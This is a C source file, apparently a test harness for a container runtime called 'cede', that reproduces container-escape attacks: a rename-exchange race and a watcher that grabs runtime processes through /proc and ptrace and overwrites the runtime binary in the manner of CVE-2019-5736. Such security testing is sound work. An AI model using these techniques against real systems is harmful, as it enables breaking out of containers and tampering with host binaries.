/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack exchange A B
 *	Exchanges two names for as long as it is let (a minute at most).
 * attack watch DEV:INO
 *	In a container: grabs at whatever process of the runtime comes by (those named "cede", and
 *whoever executes the file with these numbers) until it gets SIGTERM or a minute has gone. Says
 *"seen PID" for each, "HIT what PID" for each thing it got hold of, "exe ERROR" for what became of
 *writing to the runtime's file, and "end" before it ends.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int signal)
{
	(void)signal;
	stop = 1;
}

static int exchange(const char *a, const char *b)
{
	while (!stop)
		(void)renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
	return 0;
}

static bool is_runtime(const char *pid)
{
	char path[300], comm[32] = "";
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	if (read(fd, comm, sizeof(comm) - 1) < 0)
		comm[0] = '\0';
	(void)close(fd);
	return strcmp(comm, "cede\n") == 0;
}

/* A process only ever goes from the runtime's name to another one: who still has it now had it when
 * we got hold of something. */
static void hit(const char *what, const char *pid)
{
	if (is_runtime(pid))
		printf("HIT %s %s\n", what, pid);
}

static void grab_descriptors(const char *pid)
{
	char path[300];
	struct dirent *d;
	DIR *dir;

	(void)snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (d = readdir(dir))) {
		int fd;

		if (d->d_name[0] == '.')
			continue;
		fd = openat(dirfd(dir), d->d_name, O_PATH | O_CLOEXEC);
		if (fd >= 0)
			hit("descriptor", pid);
		(void)close(fd);
	}
	if (dir)
		(void)closedir(dir);
}

static void grab(const char *pid)
{
	static const char *const files[] = {"root", "cwd", "mem", "ns/mnt"};
	char path[300];

	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		int fd;

		(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, files[i]);
		fd = open(path, (strcmp(files[i], "mem") == 0 ? O_RDWR : O_RDONLY) | O_CLOEXEC);
		if (fd >= 0)
			hit(files[i], pid);
		(void)close(fd);
	}
	grab_descriptors(pid);
	if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0)
		hit("ptrace", pid);
}

/* As init of its container, and those that were attached to. */
static void reap(void)
{
	while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
		;
}

/* CVE-2019-5736: hold the runtime's file, wait until nobody executes it, write to it. */
static void overwrite(int fd)
{
	const struct timespec ms = {.tv_nsec = 1000000};
	char path[300];
	int out = -1;

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 3000 && !stop; i++) {
		out = open(path, O_WRONLY | O_CLOEXEC);
		if (out >= 0 || errno != ETXTBSY)
			break;
		(void)nanosleep(&ms, NULL);
		reap();
	}
	if (out >= 0 && write(out, "#!attacked\n", 11) > 0)
		printf("HIT exe -\n");
	else
		printf("exe %s\n", strerrorname_np(errno));
	(void)close(out);
}

static void grab_exe(const char *pid, unsigned long long dev, unsigned long long ino)
{
	char path[300];
	struct stat st;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino)
		overwrite(fd);
	(void)close(fd);
}

static int watch(const char *numbers)
{
	unsigned long long dev, ino;
	char last[300] = "";

	if (sscanf(numbers, "%llu:%llu", &dev, &ino) != 2)
		return 2;
	while (!stop) {
		DIR *dir = opendir("/proc");
		struct dirent *d;

		while (dir && !stop && (d = readdir(dir))) {
			if (d->d_name[0] < '0' || d->d_name[0] > '9' || atoi(d->d_name) == getpid())
				continue;
			grab_exe(d->d_name, dev, ino);
			if (!is_runtime(d->d_name))
				continue;
			if (strcmp(last, d->d_name) != 0)
				printf("seen %s\n", d->d_name);
			(void)snprintf(last, sizeof(last), "%s", d->d_name);
			grab(d->d_name);
		}
		if (dir)
			(void)closedir(dir);
		reap();
	}
	printf("end\n");
	return 0;
}

int main(int argc, char **argv)
{
	const struct sigaction sa = {.sa_handler = on_term};

	(void)sigaction(SIGTERM, &sa, NULL);
	(void)sigaction(SIGALRM, &sa, NULL);
	(void)alarm(60);
	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && strcmp(argv[1], "exchange") == 0)
		return exchange(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "watch") == 0)
		return watch(argv[2]);
	return 2;
}
